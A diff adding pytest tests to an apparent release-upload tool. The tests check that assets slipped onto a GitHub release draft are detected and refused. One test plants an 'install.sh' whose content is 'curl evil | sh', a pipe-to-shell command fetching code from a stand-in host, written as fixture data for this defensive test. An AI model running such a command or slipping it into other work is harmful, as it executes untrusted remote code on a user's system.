@@ -5,7 +5,7 @@ from pathlib import Path
 
 import pytest
 
-from valet.errors import IntegrityError, VersionError
+from valet.errors import GitHubError, IntegrityError, VersionError
 from valet.manifest import Artifact, build_manifest
 from valet.store import open_store
 from valet.store.github_release import GitHubReleaseStore
@@ -42,6 +42,34 @@ def test_upload_creates_one_draft_with_files_and_manifest(tmp_path: Path) -> Non
     listed = store.list()
     assert {n: f.digest for n, f in listed.items() if n != "manifest.json"} == {
         a.name: a.sha256 for a in manifest.artifacts}
+
+
+def test_a_draft_made_by_this_upload_is_listed_once_after_the_uploads(tmp_path: Path) -> None:
+    """The POST that made the draft says it holds nothing: no listing before the uploads,
+    the one after them checks the whole set."""
+    fake, store, manifest, files = _setup(tmp_path)
+    store.upload(manifest, files)
+    listings = [i for i, (op, url) in enumerate(fake.log)
+                if op == "GET" and url.endswith("/assets")]
+    uploads = [i for i, (op, _) in enumerate(fake.log) if op == "upload"]
+    assert len(listings) == 1 and listings[0] > max(uploads)
+
+
+def test_an_asset_slipped_onto_the_new_draft_before_the_uploads_is_refused(
+        tmp_path: Path) -> None:
+    """Someone uploads install.sh to the draft between its creation and valet's uploads:
+    not listed before them, it is in the listing after them, and the upload fails."""
+    fake, store, manifest, files = _setup(tmp_path)
+    made = fake.create_git_release
+
+    def create_then_slip(*a: object, **kw: object):  # type: ignore[no-untyped-def]
+        rel = made(*a, **kw)  # type: ignore[arg-type]
+        fake.add_asset(rel.id, "install.sh", b"curl evil | sh")
+        return rel
+
+    fake.create_git_release = create_then_slip  # type: ignore[method-assign]
+    with pytest.raises(GitHubError, match="unexpected asset 'install.sh'"):
+        store.upload(manifest, files)
 
 
 @pytest.mark.parametrize("digests", [True, False])
